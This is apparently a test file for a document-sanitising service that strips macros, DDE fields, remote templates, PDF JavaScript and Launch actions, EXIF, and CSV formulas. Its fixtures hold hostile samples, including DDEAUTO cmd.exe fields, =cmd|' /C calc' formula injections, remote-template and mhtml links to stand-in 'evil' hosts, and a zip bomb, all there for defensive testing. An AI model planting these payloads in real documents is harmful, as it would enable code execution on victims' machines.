/**
 * 無害化 engines (MAL-07, MAL-05) on fixtures built here: a docm with a VBA project, ActiveX, an
 * embedded OLE object, a remote template, an external link part and DDE fields; a PDF with
 * JavaScript, OpenAction, additional actions, a Launch action and an embedded file; a JPEG with GPS
 * EXIF; Shift_JIS CSV; and the bad inputs (zip bomb, not a zip, truncated image, broken PDF).
 */
import { randomBytes } from '../crypto/primitives.js';
import fc from 'fast-check';
import { XMLValidator } from 'fast-xml-parser';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { defaultSanitizers, pickSanitizer } from './index.js';
import { ImageSanitizer } from './image.sanitizer.js';
import { OoxmlSanitizer } from './ooxml.sanitizer.js';
import { PdfSanitizer } from './pdf.sanitizer.js';
import { SanitizeError } from './sanitizer.js';
import { defuseCsvFormulas, TextSanitizer } from './text.sanitizer.js';
import { docm, W, zipOf } from '../../test/support/office-fixtures.js';
import { runEngine as run, sourceOf, unzipText as unzip } from '../../test/support/sanitize.js';

const MiB = 1024 * 1024;
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const SML = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const rels = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
/** A Word complex field: begin, the code, separate, the shown result, end. */
const field = (instr: string, result = '結果') =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>${instr}</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

describe('OOXML 無害化 (MAL-07)', () => {
  it('removes VBA, ActiveX, OLE objects, remote templates, unsafe links and DDE fields; docm becomes docx [MAL-07]', async () => {
    const { outcome, out } = await run(
      new OoxmlSanitizer(),
      sourceOf('報告書.docm', await docm(), 'application/vnd.ms-word.document.macroenabled.12'),
    );
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      name: '報告書.docx',
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    });
    if (outcome.result !== 'sanitised_with_loss') throw new Error('unexpected');
    const kinds = new Set(outcome.removed.map((r) => r.kind));
    for (const k of [
      'vba_project',
      'activex',
      'ole_object',
      'external_relationship',
      'external_link',
      'dde_field',
      'macro_enabled_type',
    ])
      expect(kinds, k).toContain(k);
    const parts = await unzip(out);
    for (const gone of [
      'word/vbaProject.bin',
      'word/vbaData.xml',
      'word/activeX/activeX1.xml',
      'word/activeX/activeX1.bin',
      'word/embeddings/oleObject1.bin',
    ])
      expect(parts.has(gone), gone).toBe(false);
    expect(parts.get('word/media/image1.png')).toBe('PNGDATA');
    const ct = parts.get('[Content_Types].xml')!;
    expect(ct).not.toMatch(/macroEnabled|vbaProject|activeX|oleObject/);
    expect(ct).toContain('wordprocessingml.document.main+xml');
    const rels = parts.get('word/_rels/document.xml.rels')!;
    expect(rels).not.toMatch(/vbaProject|oleObject|\/control"|calc\.exe/);
    expect(rels).toContain('https://www.city.example.lg.jp/');
    expect(parts.get('word/_rels/settings.xml.rels')).not.toContain('evil.example');
    expect(parts.get('word/settings.xml')).not.toContain('attachedTemplate');
    const doc = parts.get('word/document.xml')!;
    expect(doc).not.toMatch(/DDE|OLEObject|w:control|fldSimple/);
    // What the reader sees stays: the text, the field's shown result, the OLE object's picture.
    for (const kept of ['市民課 報告書', '結果', '簡易', '<v:shape id="s1"/>', '市のサイト']) expect(doc).toContain(kept);
    // The result opens cleanly: every XML part is well-formed.
    for (const [name, xml] of parts) if (/\.(xml|rels)$/.test(name)) expect(XMLValidator.validate(xml), name).toBe(true);
  });

  it('leaves a clean docx as it was (sanitised, nothing removed) [MAL-07]', async () => {
    const clean = await zipOf({
      '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:t>ok</w:t></w:r></w:p></w:body></w:document>`,
    });
    const { outcome, out } = await run(new OoxmlSanitizer(), sourceOf('a.docx', clean, 'application/zip'));
    expect(outcome).toMatchObject({ result: 'sanitised', name: 'a.docx', removed: [] });
    expect((await unzip(out)).get('word/document.xml')).toContain('<w:t>ok</w:t>');
  });

  it('edits hostile XML in one pass and then refuses it as malformed: unclosed tags repeated a hundred thousand times do not stall it [MAL-05]', async () => {
    const hostile: Record<string, string> = {
      'xl/worksheets/sheet1.xml': '<f '.repeat(100_000) + '<definedName '.repeat(50_000),
      'xl/_rels/workbook.xml.rels': '<Relationships><Relationship '.repeat(30_000),
      'word/document.xml': '<w:fldChar w:fldCharType="begin"/>'.repeat(20_000) + '<w:fldSimple '.repeat(50_000),
    };
    for (const [name, xml] of Object.entries(hostile)) {
      const pkg = await zipOf({ '[Content_Types].xml': TYPES, [name]: xml });
      await expect(run(new OoxmlSanitizer(), sourceOf('a.xlsx', pkg, 'application/zip')), name).rejects.toMatchObject({
        code: 'malformed',
        message: expect.stringContaining(name),
      });
    }
  }, 15_000);

  it('reads relationships and content types as Office does: quote style, spacing, prefixes and character references hide nothing [MAL-07]', async () => {
    const pkg = await zipOf({
      '[Content_Types].xml': `<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Override PartName = '/word/document.xml' ContentType = 'application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>`,
      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
      'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id='rId1'/><w:zoom w:percent="100"/></w:settings>`,
      // Remote template macro loading, with single quotes.
      'word/_rels/settings.xml.rels': rels(
        `<Relationship Id='rId1' Type='${REL}/attachedTemplate' Target='https://evil/t.dotm' TargetMode='External'/>`,
      ),
      'word/_rels/document.xml.rels': rels(
        // CVE-2021-40444: spaces around `=`.
        `<Relationship Id = "rId9" Type = "${REL}/oleObject" Target = "mhtml:http://evil/x.html!x-usc:http://evil/x.html" TargetMode = "External"/>` +
          `<pr:Relationship xmlns:pr="http://schemas.openxmlformats.org/package/2006/relationships" Id="rId10" Type="${REL}/frame" Target="https://evil/frame.html" TargetMode="External"/>` +
          `<Relationship Id="rId11" Type="${REL}/image" Target="https://evil/&#x70;ixel.png" TargetMode="&#69;xternal"/>` +
          `<Relationship Id="rId12" Type="${REL}/hyperlink" Target="&#102;ile:///C:/Windows/System32/calc.exe" TargetMode="External"/>` +
          `<Relationship Id="rId13" Type="${REL}/hyperlink" Target="https://www.city.example.lg.jp/?a=1&amp;b=2" TargetMode="External"/>`,
      ),
    });
    const { outcome, out } = await run(new OoxmlSanitizer(), sourceOf('報告.docm', pkg, 'application/zip'));
    // The attached template's element had to go from settings.xml.
    expect(outcome).toMatchObject({ result: 'sanitised_with_loss', name: '報告.docx' });
    if (outcome.result !== 'sanitised_with_loss') throw new Error('unexpected');
    expect(outcome.removed).toEqual(
      expect.arrayContaining([
        { kind: 'external_relationship', count: 1, detail: 'attachedTemplate: https://evil/t.dotm' },
        { kind: 'external_relationship', count: 1, detail: 'oleObject: mhtml:http://evil/x.html!x-usc:http://evil/x.html' },
        { kind: 'external_relationship', count: 1, detail: 'frame: https://evil/frame.html' },
        { kind: 'external_relationship', count: 1, detail: 'image: https://evil/pixel.png' },
        { kind: 'external_link', count: 1, detail: 'file:///C:/Windows/System32/calc.exe' },
        { kind: 'macro_enabled_type', count: 1, detail: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
      ]),
    );
    const parts = await unzip(out);
    expect(parts.get('word/_rels/settings.xml.rels')).not.toContain('Relationship ');
    const docRels = parts.get('word/_rels/document.xml.rels')!;
    expect(docRels).not.toMatch(/evil|calc\.exe|oleObject|frame|image/);
    expect(docRels).toContain(`<Relationship Id="rId12" Type="${REL}/hyperlink" Target="#" TargetMode="External"/>`);
    expect(docRels).toContain('Target="https://www.city.example.lg.jp/?a=1&#38;b=2"');
    expect(parts.get('word/settings.xml')).not.toContain('attachedTemplate');
    expect(parts.get('word/settings.xml')).toContain('<w:zoom w:percent="100"/>');
    expect(parts.get('[Content_Types].xml')).toContain(
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
    );
    for (const [name, xml] of parts) if (/\.(xml|rels)$/.test(name)) expect(XMLValidator.validate(xml), name).toBe(true);
  });

  it('decodes character references before judging fields and formulas: &#68;DEAUTO and DDE formulas go [MAL-07]', async () => {
    const docx = await zipOf({
      '[Content_Types].xml': TYPES,
      'word/document.xml': `<w:document ${W}><w:body>${field(
        '<w:instrText>&#68;DEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
      )}<w:p><w:fldSimple w:instr='&#x44;DE Excel Sheet1'><w:r><w:t>簡易</w:t></w:r></w:fldSimple></w:p>${field(
        '<w:instrText> PAGE </w:instrText>',
        '1',
      )}</w:body></w:document>`,
    });
    const word = await run(new OoxmlSanitizer(), sourceOf('a.docx', docx, 'application/zip'));
    expect(word.outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: [
        { kind: 'dde_field', count: 1, detail: 'DDEAUTO' },
        { kind: 'dde_field', count: 1, detail: 'DDE' },
      ],
    });
    const doc = (await unzip(word.out)).get('word/document.xml')!;
    expect(doc).not.toMatch(/DEAUTO|cmd\.exe|fldSimple/);
    for (const kept of ['結果', '簡易', '<w:instrText> PAGE </w:instrText>']) expect(doc).toContain(kept);

    const xlsx = await zipOf({
      '[Content_Types].xml': TYPES,
      'xl/worksheets/sheet1.xml': `<x:worksheet xmlns:x="${SML}"><x:sheetData><x:row r="1"><x:c r="A1"><x:f>&#68;DE("cmd","/c calc","A0")</x:f><x:v>0</x:v></x:c><x:c r="A2"><x:f>cmd&#124;' /C calc'!A0</x:f><x:v>0</x:v></x:c><x:c r="A3"><x:f>=1+cmd|' /C calc'!A0</x:f><x:v>0</x:v></x:c><x:c r="A4"><x:f>SUM(1,2)</x:f><x:v>3</x:v></x:c></x:row></x:sheetData></x:worksheet>`,
      'xl/workbook.xml': `<workbook xmlns="${SML}"><definedNames><definedName name='Auto_Open'>Sheet1!$A$1</definedName><definedName name="x">cmd|' /C calc'!A0</definedName><definedName name="ok">Sheet1!$A$4</definedName></definedNames></workbook>`,
    });
    const excel = await run(new OoxmlSanitizer(), sourceOf('a.xlsx', xlsx, 'application/zip'));
    expect(excel.outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: [
        { kind: 'dde_field', count: 3, detail: 'formula' },
        { kind: 'auto_macro_name', count: 1 },
        { kind: 'dde_field', count: 1, detail: 'name' },
      ],
    });
    const parts = await unzip(excel.out);
    const sheet = parts.get('xl/worksheets/sheet1.xml')!;
    expect(sheet).not.toMatch(/DE\(|cmd/);
    expect(sheet).toContain('<x:f>SUM(1,2)</x:f>');
    expect(parts.get('xl/workbook.xml')).not.toMatch(/Auto_Open|cmd/);
    expect(parts.get('xl/workbook.xml')).toContain('<definedName name="ok">');
  });

  it('fails instead of passing a field, formula or reference written in a form it does not rewrite [MAL-07]', async () => {
    const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
    const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
    const cases: Array<[string, Record<string, string>]> = [
      [
        'CDATA field code',
        {
          'word/document.xml': `<w:document ${W}><w:body>${field(`<w:instrText><![CDATA[${dde}]]></w:instrText>`)}</w:body></w:document>`,
        },
      ],
      [
        'comment inside the field code',
        {
          'word/document.xml': `<w:document ${W}><w:body>${field(`<w:instrText>DDE<!-- -->AUTO calc</w:instrText>`)}</w:body></w:document>`,
        },
      ],
      [
        'another prefix',
        {
          'word/document.xml': `<ns:document xmlns:ns="${W_NS}"><ns:body><ns:p><ns:r><ns:fldChar ns:fldCharType="begin"/></ns:r><ns:r><ns:instrText>${dde}</ns:instrText></ns:r><ns:r><ns:fldChar ns:fldCharType="end"/></ns:r></ns:p></ns:body></ns:document>`,
        },
      ],
      [
        'CDATA formula',
        {
          'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SML}"><sheetData><row><c><f><![CDATA[cmd|' /C calc'!A0]]></f></c></row></sheetData></worksheet>`,
        },
      ],
      [
        'reference with another prefix',
        {
          'word/settings.xml': `<w:settings ${W} xmlns:rel="${REL}"><w:attachedTemplate rel:id="rId1"/></w:settings>`,
          'word/_rels/settings.xml.rels': rels(
            `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil/t.dotm" TargetMode="External"/>`,
          ),
        },
      ],
    ];
    for (const [what, parts] of cases) {
      const pkg = await zipOf({ '[Content_Types].xml': TYPES, ...parts });
      await expect(run(new OoxmlSanitizer(), sourceOf('a.docx', pkg, 'application/zip')), what).rejects.toMatchObject({
        name: 'SanitizeError',
        code: 'unsupported',
      });
    }
    // A DTD (entities Office would not expand the same way) or XML that is not well-formed fails as malformed.
    const malformed: Array<Record<string, string>> = [
      {
        'word/document.xml': `<!DOCTYPE d [<!ENTITY x "DDEAUTO">]><w:document ${W}><w:body>${field('<w:instrText>&x; calc</w:instrText>')}</w:body></w:document>`,
      },
      {
        'word/_rels/document.xml.rels': rels(`<Relationship Id='rId1' Type='${REL}/oleObject' Target='x' TargetMode='External'>`),
      },
      { '[Content_Types].xml': '<Types><Override PartName="/a.xml"></Types>' },
    ];
    for (const parts of malformed) {
      const pkg = await zipOf({ '[Content_Types].xml': TYPES, ...parts });
      await expect(run(new OoxmlSanitizer(), sourceOf('a.docx', pkg, 'application/zip'))).rejects.toMatchObject({
        code: 'malformed',
      });
    }
  });

  it('stops instead of hanging when the rebuilt file cannot be stored [MAL-05]', async () => {
    const big = await zipOf({
      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      'word/media/a.png': randomBytes(2 * MiB),
      'word/media/b.png': randomBytes(2 * MiB),
    });
    const failing = new OoxmlSanitizer().sanitize(sourceOf('a.docx', big, 'application/zip'), async (body) => {
      for await (const _ of body) throw new Error('store refused');
    });
    await expect(failing).rejects.toThrow('store refused');
  }, 10_000);

  it('refuses zip bombs and non-zips without inflating them [MAL-05]', async () => {
    // One entry that expands ~1000×: refused from the central directory, before any inflation.
    const bomb = await zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': Buffer.alloc(64 * MiB) });
    expect(bomb.length).toBeLessThan(MiB);
    await expect(run(new OoxmlSanitizer(), sourceOf('bomb.docx', bomb, 'application/zip'))).rejects.toMatchObject({
      name: 'SanitizeError',
      code: 'limit',
    });
    await expect(
      run(new OoxmlSanitizer(), sourceOf('x.docx', Buffer.from('PK\u0003\u0004 not really a zip'), 'application/zip')),
    ).rejects.toMatchObject({
      code: 'malformed',
    });
    const noTypes = await zipOf({ 'word/document.xml': '<w:document/>' });
    await expect(run(new OoxmlSanitizer(), sourceOf('y.docx', noTypes, 'application/zip'))).rejects.toMatchObject({
      code: 'malformed',
    });
  });
});

describe('PDF 無害化 (MAL-07)', () => {
  async function dangerousPdf(): Promise<Buffer> {
    const doc = await PDFDocument.create();
    const page = doc.addPage([200, 200]);
    page.drawText('Kura test');
    const ctx = doc.context;
    const js = ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
    doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js));
    const jsTree = ctx.obj({
      Names: [PDFString.of('x'), ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.exportDataObject()') }))],
    });
    doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: ctx.register(jsTree) }));
    page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.obj({ S: 'JavaScript', JS: PDFString.of('1') }) }));
    const launch = ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 50, 50],
      A: ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }),
    });
    const web = ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [50, 50, 90, 90],
      A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.city.example.lg.jp/') }),
    });
    const remote = ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 50, 50, 90],
      A: ctx.obj({ S: 'GoToR', F: PDFString.of('attacker-share/x.pdf') }),
    });
    page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(launch), ctx.register(web), ctx.register(remote)]));
    await doc.attach(Buffer.from('MZ payload'), 'invoice.exe', { mimeType: 'application/octet-stream' });
    return Buffer.from(await doc.save({ useObjectStreams: false }));
  }

  it('removes JavaScript, OpenAction, additional actions, Launch and embedded files; keeps pages and web links [MAL-07]', async () => {
    const input = await dangerousPdf();
    expect(input.toString('latin1')).toMatch(/\/JavaScript[\s\S]*\/OpenAction|\/OpenAction[\s\S]*\/JavaScript/);
    const { outcome, out } = await run(new PdfSanitizer(), sourceOf('通知.pdf', input, 'application/pdf'));
    expect(outcome).toMatchObject({ result: 'sanitised_with_loss', name: '通知.pdf', contentType: 'application/pdf' });
    const text = out.toString('latin1');
    for (const gone of [
      '/JavaScript',
      '/OpenAction',
      '/JS ',
      '/AA',
      '/Launch',
      '/GoToR',
      'attacker-share',
      '/EmbeddedFile',
      'invoice.exe',
      'cmd.exe',
    ])
      expect(text, gone).not.toContain(gone);
    expect(text).toContain('https://www.city.example.lg.jp/');
    const again = await PDFDocument.load(out);
    expect(again.getPageCount()).toBe(1);
    if (outcome.result !== 'sanitised_with_loss') throw new Error('unexpected');
    expect(outcome.removed.map((r) => r.kind)).toEqual(
      expect.arrayContaining(['open_action', 'javascript', 'additional_actions', 'action', 'embedded_file']),
    );
  });

  it('rebuilds every page as an image in the strict mode: nothing of the original survives [MAL-07]', async () => {
    const input = await dangerousPdf();
    const src = { ...sourceOf('通知.pdf', input, 'application/pdf'), policy: { pdfMode: 'strict' as const } };
    const { outcome, out } = await run(new PdfSanitizer(), src);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      engine: 'kura-pdf-strict',
      removed: [{ kind: 'rasterised', count: 1 }],
    });
    const again = await PDFDocument.load(out);
    expect(again.getPageCount()).toBe(1);
    expect(again.getPage(0).getSize()).toEqual({ width: 200, height: 200 });
    const text = out.toString('latin1');
    for (const gone of ['JavaScript', 'OpenAction', 'Launch', 'EmbeddedFile', 'invoice.exe', 'cmd.exe', '/URI', '/Annots'])
      expect(text, gone).not.toContain(gone);
    const missing = new PdfSanitizer({ pdftoppm: '/nonexistent/pdftoppm' });
    await expect(run(missing, src)).rejects.toMatchObject({ code: 'unsupported' });
  });

  it('fails clearly on a PDF whose structure is broken beyond reading [MAL-07]', async () => {
    await expect(
      run(new PdfSanitizer(), sourceOf('broken.pdf', Buffer.from('%PDF-1.7\n garbage without objects'), 'application/pdf')),
    ).rejects.toBeInstanceOf(SanitizeError);
  });
});

describe('image and text 無害化 (MAL-07)', () => {
  it('re-encodes a JPEG without its GPS EXIF [MAL-07]', async () => {
    const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#336699' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'KuraCam', Software: 'test' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '35/1 41/1 0/1' } })
      .toBuffer();
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const { outcome, out } = await run(new ImageSanitizer(), sourceOf('現場写真.jpg', jpeg, 'image/jpeg'));
    expect(outcome).toMatchObject({ result: 'sanitised', contentType: 'image/jpeg' });
    const meta = await sharp(out).metadata();
    expect(meta.exif).toBeUndefined();
    expect([meta.width, meta.height, meta.format]).toEqual([32, 24, 'jpeg']);
    expect(out.includes(Buffer.from('KuraCam'))).toBe(false);
    if (outcome.result !== 'sanitised') throw new Error('unexpected');
    expect(outcome.removed.map((r) => r.kind)).toContain('exif');
  });

  it('fails on a truncated image instead of passing it on [MAL-07]', async () => {
    const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    await expect(
      run(new ImageSanitizer(), sourceOf('cut.png', png.subarray(0, png.length / 2), 'image/png')),
    ).rejects.toMatchObject({ code: 'malformed' });
  });

  it('defuses formula cells in CSV (=cmd|… becomes text) but leaves numbers alone [MAL-07]', async () => {
    const csv = Buffer.from('名前,式\n山田,=cmd|\' /C calc\'!A0\n佐藤,"@SUM(A1)"\n鈴木,-12\n');
    const { outcome, out } = await run(new TextSanitizer(), sourceOf('表.csv', csv, null));
    expect(out.toString('utf8')).toBe("\ufeff名前,式\n山田,'=cmd|' /C calc'!A0\n佐藤,\"'@SUM(A1)\"\n鈴木,-12\n");
    if (outcome.result !== 'sanitised') throw new Error('unexpected');
    expect(outcome.removed).toContainEqual({ kind: 'csv_formula', count: 2 });
  });

  it('defuses every formula cell in CSV: a digit after the sign, quoted cells, CR/LF/CRLF rows; plain numbers stay [MAL-07]', async () => {
    const csv = Buffer.from(
      'id,式\r\n' +
        "1,=1+cmd|' /C calc'!A0\r\n" +
        "2,-2+3+cmd|' /C calc'!A0\r" +
        '3,=2+cmd|\'/c calc\'!A1,"=1+1","\t=cmd"\n' +
        '4,"a,\n=not a cell start",@x\n' +
        '5,-12,"-1,234",+3.5,-1.5E+3,-5%,-\n',
    );
    const { outcome, out } = await run(new TextSanitizer(), sourceOf('表.csv', csv, null));
    expect(out.toString('utf8')).toBe(
      '\ufeffid,式\r\n' +
        "1,'=1+cmd|' /C calc'!A0\r\n" +
        "2,'-2+3+cmd|' /C calc'!A0\r" +
        "3,'=2+cmd|'/c calc'!A1,\"'=1+1\",\"'\t=cmd\"\n" +
        '4,"a,\n=not a cell start",\'@x\n' +
        '5,-12,"-1,234",+3.5,-1.5E+3,-5%,-\n',
    );
    expect(outcome).toMatchObject({ result: 'sanitised', removed: [{ kind: 'csv_formula', count: 6 }] });
    const tsv = await run(new TextSanitizer(), sourceOf('表.tsv', Buffer.from("a\t=1+cmd|' /C calc'!A0\r\n"), null));
    expect(tsv.out.toString('utf8')).toBe("\ufeffa\t'=1+cmd|' /C calc'!A0\r\n");
  });

  it('leaves no CSV cell a spreadsheet reads as a formula and changes nothing else (property) [MAL-07]', () => {
    const cell = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '1', '2', '.', ',', '"', '\t', '\r', '\n', 'a', ' '),
      maxLength: 8,
    });
    const table = fc.array(fc.array(fc.tuple(cell, fc.boolean()), { minLength: 1, maxLength: 4 }), {
      minLength: 1,
      maxLength: 4,
    });
    fc.assert(
      fc.property(table, fc.constantFrom('\r\n', '\n', '\r'), (rows, eol) => {
        const text = rows
          .map((r) => r.map(([c, q]) => (q || /[",\t\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(','))
          .join(eol);
        const back = parseCsv(defuseCsvFormulas(text).text);
        expect(back.length).toBe(rows.length);
        rows.forEach((r, i) =>
          r.forEach(([c], j) => {
            const got = back[i]![j]!;
            if (got !== c) expect([got, /^[=+\-@\t\r]/.test(c)]).toEqual([`'${c}`, true]);
            if (/^[=+\-@\t\r]/.test(got)) expect(got).toMatch(/^(?:[+-][\d.,]+(?:[eE][+-]?\d+)?%?|-)$/);
          }),
        );
      }),
    );
  });

  it('keeps every page of a multi-page TIFF (faxes) [MAL-07]', async () => {
    const tiff = await sharp(await colourPages(), { join: { animated: true } })
      .tiff()
      .toBuffer();
    expect((await sharp(tiff).metadata()).pages).toBe(3);
    const { outcome, out } = await run(new ImageSanitizer(), sourceOf('fax.tif', tiff, 'image/tiff'));
    expect(outcome).toMatchObject({ result: 'sanitised', contentType: 'image/tiff', removed: [] });
    const meta = await sharp(out).metadata();
    expect([meta.format, meta.pages, meta.width, meta.height]).toEqual(['tiff', 3, 40, 30]);
    for (const i of [0, 1, 2]) {
      const { r, g, b } = (await sharp(out, { page: i }).stats()).dominant;
      expect([r, g, b].indexOf(Math.max(r, g, b)), `page ${i + 1}`).toBe(i);
    }
  });

  it('fails a multi-page TIFF it cannot rebuild whole instead of dropping pages [MAL-07]', async () => {
    // Turning a multi-page image upright by 90° is not supported: the file is held, not cut to its first page.
    const sideways = await sharp(await colourPages(), { join: { animated: true } })
      .withMetadata({ orientation: 6 })
      .tiff()
      .toBuffer();
    await expect(run(new ImageSanitizer(), sourceOf('fax.tif', sideways, 'image/tiff'))).rejects.toMatchObject({
      code: 'malformed',
      message: expect.stringContaining('multi-page image (3 pages)'),
    });
  });

  it('turns Shift_JIS CSV into UTF-8 with a BOM and drops control characters [MAL-07]', async () => {
    const sjis = Buffer.from([0x8e, 0x73, 0x96, 0xaf, 0x2c, 0x31, 0x0d, 0x0a, 0x1b, 0x5b, 0x32, 0x4a]); // 市民,1\r\n ESC[2J
    const { outcome, out } = await run(new TextSanitizer(), sourceOf('名簿.csv', sjis, null));
    expect(outcome).toMatchObject({ result: 'sanitised', contentType: 'text/csv; charset=utf-8' });
    expect(out.toString('utf8')).toBe('\ufeff市民,1\r\n[2J');
  });
});

describe('engine choice (MAL-07)', () => {
  it('picks by detected type and extension, and none for what no engine handles', () => {
    const engines = defaultSanitizers();
    expect(
      pickSanitizer(engines, { name: 'a.docm', detectedMime: 'application/vnd.ms-word.document.macroenabled.12' })?.engine,
    ).toBe('kura-ooxml');
    expect(pickSanitizer(engines, { name: 'a.pdf', detectedMime: 'application/pdf' })?.engine).toBe('kura-pdf');
    expect(pickSanitizer(engines, { name: 'a.jpg', detectedMime: 'image/jpeg' })?.engine).toBe('sharp');
    expect(pickSanitizer(engines, { name: 'a.csv', detectedMime: null })?.engine).toBe('kura-text');
    expect(pickSanitizer(engines, { name: 'a.zip', detectedMime: 'application/zip' })).toBeNull();
    expect(pickSanitizer(engines, { name: 'a.xlsb', detectedMime: 'application/zip' })).toBeNull();
    expect(pickSanitizer(engines, { name: 'a.doc', detectedMime: 'application/x-cfb' })).toBeNull();
  });
});

/** Three 40×30 pages: red, green, blue. */
function colourPages(): Promise<Buffer[]> {
  return Promise.all(
    ['#ff0000', '#00ff00', '#0000ff'].map((background) =>
      sharp({ create: { width: 40, height: 30, channels: 3, background } })
        .png()
        .toBuffer(),
    ),
  );
}

/** CSV as a spreadsheet reads it (RFC 4180 quoting; CRLF, LF or CR ends a row), to check the CSV defusing against. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') cell += text[++i];
      else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (c === '\r' || c === '\n') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      rows.at(-1)!.push(cell);
      rows.push([]);
      cell = '';
    } else cell += c;
  }
  rows.at(-1)!.push(cell);
  return rows;
}
